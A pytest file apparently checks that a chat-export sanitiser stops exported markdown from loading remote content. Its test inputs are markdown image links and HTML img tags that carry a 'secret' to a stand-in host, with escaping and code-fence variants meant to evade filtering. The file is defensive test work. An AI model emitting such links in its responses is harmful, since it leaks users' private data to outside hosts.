"""Chats as files: what an export shows, and what it does not do."""

import pytest

from rostra.console.exporting import inert


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://stranger/?q=secret)",
        "\\![x](http://stranger/?q=secret)",
        "![x][1]\n\n[1]: http://stranger/?q=secret",
        "<img src='http://stranger/?q=secret'>",
        "\\<img src='http://stranger/?q=secret'>",
        "```a`b\n![x](http://stranger/)",
        "- a\n  ```\n![x](http://stranger/)",
        "```\ncode\n   ```\n![x](http://stranger/)",
        "```\rcode\r```\r![x](http://stranger/)",
        "<!DOCTYPE html>",
    ],
)
def test_exported_markdown_loads_nothing_when_it_is_shown(text: str) -> None:
    shown = inert(text)
    assert "![x]" not in shown
    assert "<" not in shown


def test_exported_markdown_keeps_code_as_it_is() -> None:
    code = "before\n```html\n<b>![x](y)</b>\n```\nafter"
    assert inert(code) == code
    assert inert("a < b, 1 <2, hot!") == "a < b, 1 <2, hot!"
    assert inert("```\nleft open") == "```\nleft open\n```"
